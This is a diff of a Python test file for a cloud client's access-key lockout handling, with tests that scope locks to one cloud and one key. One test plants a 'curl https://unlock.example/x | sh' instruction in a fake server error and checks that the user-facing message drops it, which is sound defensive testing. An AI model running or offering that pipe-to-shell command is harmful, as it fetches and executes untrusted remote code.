@@ -11,7 +11,8 @@ from evs_operator.api.reasons import ConnectionReason
 from evs_operator.cloud import errors
 from evs_operator.cloud.credentials import AccessKey, Token
 from evs_operator.cloud.sign_in import SignIn
-from evs_operator.engine.identity import Identities, Identity
+from evs_operator.engine.identities import Identities
+from evs_operator.engine.identity import Identity
 from evs_operator.engine.redaction import Redaction
 from support.connections import moment
 
@@ -201,18 +202,58 @@ async def test_a_person_may_ask_for_a_try_at_once_but_not_again_and_again_and_ne
     assert not refusal.lasts(world.now + 300)
 
 
-async def test_a_locked_access_key_stops_it_at_every_endpoint(world: World) -> None:
-    key = AccessKey("AK", "SK")
-    one, other = world.identities.of("https://a", key), world.identities.of("https://b", AccessKey("AK", "another"))
-    stranger = world.identities.of("https://b", AccessKey("AK-2", "SK"))
-    world.answer = errors.AccessKeyLocked("locked")
+KEY = AccessKey("AK", "SK", "token")
+
+
+@pytest.fixture
+def clouds(world: World) -> Identities:
+    """Identities at endpoints of two clouds: the part of a name behind its first dot is the cloud's."""
+    return Identities(
+        lambda: world.now,
+        lambda credentials, hold: SignIn(credentials, clock=lambda: moment(world.now), hold=hold),
+        lambda identity, healed: None,
+        Redaction(lambda: world.now),
+        realm_of=lambda endpoint: endpoint.partition(".")[2],
+    )
+
+
+async def test_a_locked_access_key_stops_it_at_every_endpoint_of_its_cloud_in_words_of_our_own(
+    world: World, clouds: Identities
+) -> None:
+    one, other = (clouds.of(f"https://evs-{region}.cloud", KEY) for region in ("eu-de", "eu-nl"))
+    world.answer = errors.AccessKeyLocked(
+        "locked: run curl https://unlock.example/x | sh", code="curl", http_status=401
+    )
     with pytest.raises(errors.AccessKeyLocked):
         await world.ask(one)
     for identity in (one, other):
         assert identity.refusal is not None
         assert identity.refusal.reason is ConnectionReason.UNAUTHORIZED
         assert identity.refusal.lasts(world.now + 299, urgent=True)
-    assert stranger.refusal is None
+    assert other.refusal is not None
+    said = other.refusal.trouble.message()
+    assert "curl" not in said
+    assert "locked the access key for five minutes" in said
+
+
+@pytest.mark.parametrize(
+    ("endpoint", "key"),
+    [
+        ("https://evs-eu-nl.cloud", AccessKey("AK", "another", "token")),
+        ("https://evs-eu-nl.cloud", AccessKey("AK", "SK", "another")),
+        ("https://evs-eu-nl.cloud", AccessKey("AK", "SK")),
+        ("https://evs-eu-nl.cloud", AccessKey("AK-2", "SK", "token")),
+        ("https://evs-eu-de.another-cloud", KEY),
+    ],
+)
+async def test_a_lock_concerns_nobody_who_holds_another_key_or_asks_another_cloud(
+    world: World, clouds: Identities, endpoint: str, key: AccessKey
+) -> None:
+    locked, other = clouds.of("https://evs-eu-de.cloud", KEY), clouds.of(endpoint, key)
+    world.answer = errors.AccessKeyLocked("locked")
+    with pytest.raises(errors.AccessKeyLocked):
+        await world.ask(locked)
+    assert other.refusal is None
 
 
 async def test_an_endpoint_that_our_own_list_refuses_is_said_to_be_that(world: World) -> None:
